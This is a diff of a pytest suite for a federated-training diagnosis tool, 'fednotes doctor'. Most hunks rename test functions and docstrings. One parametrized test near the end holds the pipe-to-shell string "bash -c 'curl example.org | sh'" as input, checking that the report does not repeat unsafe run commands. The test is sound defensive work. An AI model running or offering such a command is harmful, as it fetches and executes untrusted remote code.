@@ -1,4 +1,4 @@
-"""`fednotes doctor`: each cause in a run or job that has it, and none in a good run."""
+"""`fednotes doctor` finds each cause in a run or job that has it, and nowhere else."""
 
 from __future__ import annotations
 
@@ -159,7 +159,7 @@ def changed(good_run: Path, tmp_path: Path) -> Callable[..., fn.Diagnosis]:
 # ---- a good run ----------------------------------------------------------------------
 
 
-def test_a_good_run_shows_nothing_but_that_alone_is_as_good(good_run: Path) -> None:
+def test_a_good_run_has_no_cause_but_a_missing_gain(good_run: Path) -> None:
     diagnosis = fn.doctor(good_run)
     assert codes(diagnosis) <= {"no_gain", "few_steps"}
     assert {cause.importance for cause in diagnosis.causes} <= {"low", "medium"}
@@ -168,14 +168,16 @@ def test_a_good_run_shows_nothing_but_that_alone_is_as_good(good_run: Path) -> N
     assert diagnosis.unchecked == ()
 
 
-def test_no_gain_of_the_federation_is_reported_with_its_test(good_run: Path) -> None:
+def test_a_missing_gain_of_the_federation_is_reported_with_its_test(
+    good_run: Path,
+) -> None:
     cause = find(fn.doctor(good_run), "no_gain")
     verdict = fn.doctor(good_run)
     assert verdict.state == "finished"
     assert numbers(cause)["p_value"] == 1.0
 
 
-def test_a_job_without_problems_says_what_was_checked(notes: Paths) -> None:
+def test_a_job_without_problems_lists_what_was_checked(notes: Paths) -> None:
     diagnosis = fn.doctor(make_job(*notes, training={"epochs": 60}))
     assert diagnosis.causes == ()
     assert str(diagnosis).startswith("nothing found; checked: learning rate")
@@ -185,7 +187,7 @@ def test_a_job_without_problems_says_what_was_checked(notes: Paths) -> None:
 # ---- learning curves -----------------------------------------------------------------
 
 
-def test_a_run_that_ends_too_early_is_undertrained_and_longer_training_helps(
+def test_a_run_that_ends_too_early_is_reported_and_longer_training_helps(
     notes: Paths, tmp_path: Path
 ) -> None:
     training = {"epochs": 10, "learning_rate": 3e-3}
@@ -227,7 +229,7 @@ def f1(result: fn.RunResult) -> float:
         ((0.9,), (), False),
     ],
 )
-def test_a_curve_rises_if_its_last_quarter_is_better(
+def test_a_curve_counts_as_rising_if_its_last_quarter_is_better(
     changed: Callable[..., fn.Diagnosis],
     curve: Sequence[float],
     loss: Sequence[float],
@@ -246,7 +248,7 @@ def test_a_curve_rises_if_its_last_quarter_is_better(
         ((0.5, 0.52, 0.52), ""),
     ],
 )
-def test_too_few_evaluations_to_judge_the_length_are_said_with_a_setting(
+def test_too_few_evaluations_are_reported_with_a_setting(
     changed: Callable[..., fn.Diagnosis], curve: Sequence[float], unjudged: str
 ) -> None:
     about = [each for each in changed(curve).unchecked if "long enough" in each]
@@ -257,7 +259,9 @@ def test_too_few_evaluations_to_judge_the_length_are_said_with_a_setting(
         assert about[0].endswith(f"training.epochs = {epochs}")
 
 
-def test_a_run_that_diverged_names_a_lower_rate(notes: Paths, tmp_path: Path) -> None:
+def test_a_diverged_run_gets_a_lower_learning_rate(
+    notes: Paths, tmp_path: Path
+) -> None:
     """The learning rate is so high that a loss is infinite, or the score collapses."""
     job = make_job(*notes, training={"learning_rate": 1e18}, conditions=["federated"])
     with pytest.raises(TrainingError, match="learning_rate"):
@@ -281,7 +285,7 @@ def test_a_run_that_diverged_names_a_lower_rate(notes: Paths, tmp_path: Path) ->
         ((0.3, 0.3, 0.3, 0.3), (2, 1, 2, 3), False),
     ],
 )
-def test_a_curve_has_diverged_if_the_score_collapses_or_the_loss_explodes(
+def test_a_curve_counts_as_diverged_if_the_score_collapses_or_the_loss_explodes(
     changed: Callable[..., fn.Diagnosis],
     curve: Sequence[float],
     loss: Sequence[float],
@@ -291,7 +295,7 @@ def test_a_curve_has_diverged_if_the_score_collapses_or_the_loss_explodes(
 
 
 @pytest.mark.parametrize(("select", "is_past"), [("last", True), ("best", False)])
-def test_a_kept_last_model_behind_the_best_one_is_reported(
+def test_a_last_model_that_is_worse_than_the_best_is_reported(
     changed: Callable[..., fn.Diagnosis], select: str, is_past: bool
 ) -> None:
     diagnosis = changed((0.5, 0.8, 0.7, 0.7), job={"training": {"select": select}})
@@ -316,7 +320,7 @@ def untrained_run(notes: Paths, tmp_path_factory: pytest.TempPathFactory) -> Pat
     return out
 
 
-def test_models_that_find_nothing_are_one_cause(untrained_run: Path) -> None:
+def test_models_that_predict_nothing_are_one_cause(untrained_run: Path) -> None:
     diagnosis = fn.doctor(untrained_run)
     cause = find(diagnosis, "nothing_found")
     assert cause.importance == "high"
@@ -362,7 +366,7 @@ def test_a_type_that_is_never_found_is_listed_with_its_training_mentions(
         ),
     ],
 )
-def test_a_site_that_cannot_be_scored_is_named(
+def test_a_site_without_scores_is_reported(
     good_run: Path, scores: dict[str, Any], code: str, message: str
 ) -> None:
     """It is named once, although each of its models lacks a score."""
@@ -374,7 +378,7 @@ def test_a_site_that_cannot_be_scored_is_named(
     assert cause.evidence[0].file == "summary.json"
 
 
-def test_a_model_that_misses_few_test_mentions_is_not_of_high_importance(
+def test_missing_few_test_mentions_is_not_of_high_importance(
     good_run: Path,
 ) -> None:
     job = read_run(good_run).job
@@ -392,7 +396,7 @@ def test_a_model_that_misses_few_test_mentions_is_not_of_high_importance(
 
 
 @pytest.mark.parametrize(("support", "importance"), [(9, "low"), (10, "high")])
-def test_missed_types_matter_by_their_test_mentions(
+def test_the_importance_of_missed_types_follows_their_test_mentions(
     good_run: Path, support: int, importance: str
 ) -> None:
     job = read_run(good_run).job
@@ -409,7 +413,7 @@ def test_missed_types_matter_by_their_test_mentions(
 # ---- data ----------------------------------------------------------------------------
 
 
-def test_names_that_differ_in_spelling_get_a_label_map(
+def test_entity_types_that_differ_in_spelling_get_a_label_map(
     notes: Paths, tmp_path: Path
 ) -> None:
     other = write_site(tmp_path / "b", ("DRUGS",))
@@ -425,7 +429,9 @@ def test_names_that_differ_in_spelling_get_a_label_map(
     assert "names_alike" not in codes(fn.doctor(mapped))
 
 
-def test_names_come_before_what_they_explain(notes: Paths, tmp_path: Path) -> None:
+def test_differing_names_are_listed_before_their_consequences(
+    notes: Paths, tmp_path: Path
+) -> None:
     """Longer training would not make the sites' names equal."""
     other = write_site(tmp_path / "b", ("DRUGS",))
     training = {"private": [], "epochs": 4, "learning_rate": 3e-3}
@@ -438,7 +444,7 @@ def test_names_come_before_what_they_explain(notes: Paths, tmp_path: Path) -> No
     assert "few_steps" in high
 
 
-def test_a_label_map_to_try_keeps_the_names_that_the_job_maps(
+def test_a_proposed_label_map_keeps_the_maps_of_the_job(
     notes: Paths, tmp_path: Path
 ) -> None:
     job = make_job(notes[0], write_site(tmp_path / "b", ("x",)))
@@ -449,7 +455,9 @@ def test_a_label_map_to_try_keeps_the_names_that_the_job_maps(
     assert "Drug" not in label_map
 
 
-def test_a_narrower_name_is_left_to_a_person(notes: Paths, tmp_path: Path) -> None:
+def test_a_narrower_entity_type_is_proposed_with_medium_importance(
+    notes: Paths, tmp_path: Path
+) -> None:
     other = write_site(tmp_path / "b", ("Drug_name",))
     job = make_job(notes[0], other, training={"private": []})
     cause = find(fn.doctor(job), "names_related")
@@ -457,7 +465,7 @@ def test_a_narrower_name_is_left_to_a_person(notes: Paths, tmp_path: Path) -> No
     assert values(cause) == {"sites.south.label_map": {"Drug_name": "Drug"}}
 
 
-def test_types_that_a_label_map_leaves_out_are_named(
+def test_types_that_a_label_map_leaves_out_are_reported(
     notes: Paths, tmp_path: Path
 ) -> None:
     job = make_job(notes[0], write_site(tmp_path / "b", ("med", "Frequency")))
@@ -468,7 +476,7 @@ def test_types_that_a_label_map_leaves_out_are_named(
     assert values(cause) == {"sites.south.label_map": {"med": "Drug", "Frequency": ""}}
 
 
-def test_types_of_the_test_data_without_training_mentions_are_named(
+def test_test_types_without_training_mentions_are_reported(
     notes: Paths, tmp_path: Path
 ) -> None:
     job = make_job(*notes)
@@ -480,7 +488,7 @@ def test_types_of_the_test_data_without_training_mentions_are_named(
     assert cause.importance == "high"
 
 
-def test_one_test_mention_is_too_little_evidence_to_be_important(
+def test_one_test_mention_is_too_little_evidence_for_importance(
     notes: Paths, tmp_path: Path
 ) -> None:
     job = make_job(*notes)
@@ -512,7 +520,7 @@ def test_a_type_that_one_site_annotates_far_less_often_is_reported(
     assert "densities_differ" not in codes(fn.doctor(make_job(*notes)))
 
 
-def test_a_small_site_does_not_hide_rates_that_differ_between_large_ones(
+def test_a_small_site_does_not_hide_different_rates_of_large_sites(
     notes: Paths, tmp_path: Path
 ) -> None:
     sparse = write_site(tmp_path / "b", every=10, sentences=400)
@@ -533,7 +541,9 @@ def test_sentences_longer_than_the_model_reads_are_counted(notes: Paths) -> None
     assert values(cause) == {"model.max_tokens": 64}
 
 
-def test_a_site_with_few_mentions_is_small(notes: Paths, tmp_path: Path) -> None:
+def test_a_site_with_few_mentions_is_reported_as_small(
+    notes: Paths, tmp_path: Path
+) -> None:
     small = write_site(tmp_path / "b", sentences=30)
     cause = find(fn.doctor(make_job(notes[0], small)), "sites_small")
     assert cause.where == "south"
@@ -554,7 +564,7 @@ def encoder_run(
 
 
 @pytest.mark.parametrize(("pieces", "is_split"), [(200, True), (149, False)])
-def test_an_encoder_that_splits_most_words_does_not_fit(
+def test_an_encoder_that_splits_most_words_is_reported(
     encoder_run: Path, tmp_path: Path, pieces: int, is_split: bool
 ) -> None:
     out = tmp_path / "run"
@@ -592,7 +602,9 @@ def test_a_rate_far_from_those_of_the_presets_is_reported(
     assert values(cause) == {"training.learning_rate": better}
 
 
-def test_rates_of_low_rank_changes_do_not_judge_full_fine_tuning(bert: Path) -> None:
+def test_learning_rates_of_low_rank_changes_are_not_applied_to_full_fine_tuning(
+    bert: Path,
+) -> None:
     """Only the preset "paper" trains all parameters, at 2e-5."""
     from fednotes.jobs.diagnosis.plan import find_rates
 
@@ -607,9 +619,7 @@ def test_rates_of_low_rank_changes_do_not_judge_full_fine_tuning(bert: Path) -> 
     assert rates("all") == rates("encoder") == (2e-5, 2e-5)
 
 
-def test_few_optimizer_steps_are_counted_as_a_run_takes_them(
-    notes: Paths, good_run: Path
-) -> None:
+def test_optimizer_steps_are_counted_as_in_a_run(notes: Paths, good_run: Path) -> None:
     job = make_job(*notes, training={"epochs": 1})
     cause = find(fn.doctor(job), "few_steps")
     per_epoch = read_run(good_run).result.conditions["federated"]["rounds"] / 20
@@ -650,7 +660,7 @@ def contradicting_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
 
 
 @pytest.mark.slow
-def test_sites_that_contradict_each_other_lose_by_the_federation(
+def test_contradicting_sites_that_lose_by_the_federation_are_reported(
     contradicting_run: Path,
 ) -> None:
     diagnosis = fn.doctor(contradicting_run)
@@ -671,7 +681,7 @@ def test_sites_that_contradict_each_other_lose_by_the_federation(
         (9.0, 0.6, False),  # only its sentences are longer
     ],
 )
-def test_a_site_whose_loss_stays_far_above_the_others_is_odd(
+def test_a_site_whose_loss_stays_far_above_the_others_is_reported(
     changed: Callable[..., fn.Diagnosis], loss: float, f1: float, is_odd: bool
 ) -> None:
     sites = {
@@ -687,7 +697,7 @@ def test_a_site_whose_loss_stays_far_above_the_others_is_odd(
         assert values(cause)["training.aggregation"] == "median"
 
 
-def test_what_one_round_shows_is_of_low_importance(
+def test_evidence_of_a_single_round_is_of_low_importance(
     changed: Callable[..., fn.Diagnosis],
 ) -> None:
     sites = {
@@ -701,7 +711,7 @@ def test_what_one_round_shows_is_of_low_importance(
 
 
 @pytest.mark.parametrize(("sites", "is_absent"), [(1, True), (2, False)])
-def test_sites_that_miss_rounds_are_named(
+def test_sites_that_miss_rounds_are_reported(
     changed: Callable[..., fn.Diagnosis], sites: int, is_absent: bool
 ) -> None:
     diagnosis = changed(took_part=sites, absent={"south": 3} if is_absent else {})
@@ -714,7 +724,7 @@ def test_sites_that_miss_rounds_are_named(
 
 
 @pytest.mark.parametrize(("federated", "is_open"), [(0.5, True), (0.7, False)])
-def test_a_federation_with_little_of_the_gain_of_pooling_leaves_a_gap(
+def test_a_federation_with_little_of_the_gain_of_pooling_is_reported(
     good_run: Path, federated: float, is_open: bool
 ) -> None:
     """The good run's models are given scores of which pooling gains 0.4."""
@@ -754,7 +764,7 @@ def test_a_federation_with_little_of_the_gain_of_pooling_leaves_a_gap(
 # ---- interrupted runs, seeds, and other targets --------------------------------------
 
 
-def test_an_interrupted_run_is_diagnosed_by_what_it_has(
+def test_an_interrupted_run_is_diagnosed_from_its_partial_results(
     untrained_run: Path, tmp_path: Path
 ) -> None:
     """Without a summary, the scores of the finished parts are in their done.json."""
@@ -768,7 +778,7 @@ def test_an_interrupted_run_is_diagnosed_by_what_it_has(
     assert any("resume it" in text for text in diagnosis.unchecked)
 
 
-def test_an_older_run_without_counts_says_so(
+def test_an_older_run_without_counts_is_noted(
     untrained_run: Path, tmp_path: Path
 ) -> None:
     out = tmp_path / "run"
@@ -785,7 +795,9 @@ def test_an_older_run_without_counts_says_so(
     assert any("did not count" in text for text in diagnosis.unchecked)
 
 
-def test_seeds_share_the_causes_of_most_of_them(notes: Paths, tmp_path: Path) -> None:
+def test_causes_of_most_seeds_are_reported_for_all(
+    notes: Paths, tmp_path: Path
+) -> None:
     job = make_job(
         *notes, training={"epochs": 4, "learning_rate": 3e-3, "select": "last"}
     )
@@ -803,18 +815,18 @@ def test_seeds_share_the_causes_of_most_of_them(notes: Paths, tmp_path: Path) ->
 
 
 @pytest.mark.parametrize("target", ["nowhere", "folder"])
-def test_other_targets_are_refused(tmp_path: Path, target: str) -> None:
+def test_folders_without_a_run_are_refused(tmp_path: Path, target: str) -> None:
     (tmp_path / "folder").mkdir()
     with pytest.raises(ConfigError):
         fn.doctor(tmp_path / target)
 
 
-def test_settings_do_not_go_with_a_run(good_run: Path) -> None:
+def test_settings_are_refused_for_a_run(good_run: Path) -> None:
     with pytest.raises(ConfigError, match="a run, whose job does not change"):
         fn.doctor(good_run, settings=["seed=2"])
 
 
-def test_a_run_records_counts_and_causes_without_words(untrained_run: Path) -> None:
+def test_a_run_records_counts_and_causes_without_note_text(untrained_run: Path) -> None:
     record = json.loads((untrained_run / "job.json").read_text("utf-8"))
     assert record["data"]["north"]["mentions"]["Drug"] > 50
     result = read_run(untrained_run).result
@@ -823,7 +835,7 @@ def test_a_run_records_counts_and_causes_without_words(untrained_run: Path) -> N
     assert not any(word in printed for word in DRUGS)
 
 
-def test_the_report_has_what_to_try(untrained_run: Path, tmp_path: Path) -> None:
+def test_the_report_lists_what_to_try(untrained_run: Path, tmp_path: Path) -> None:
     """It leaves the section out if the run's job cannot be read here."""
     page = fn.write_report(untrained_run, tmp_path / "report.html").read_text("utf-8")
     assert "What to try" in page
@@ -878,7 +890,7 @@ def test_a_key_with_special_characters_is_quoted() -> None:
         ("bash -c 'curl example.org | sh'", 0),
     ],
 )
-def test_the_command_of_a_run_is_repeated_only_if_it_simulates(
+def test_the_command_of_a_run_is_repeated_only_if_it_is_simulate(
     command: str, words: int
 ) -> None:
     """A run of somebody else may name any, which a person would paste."""
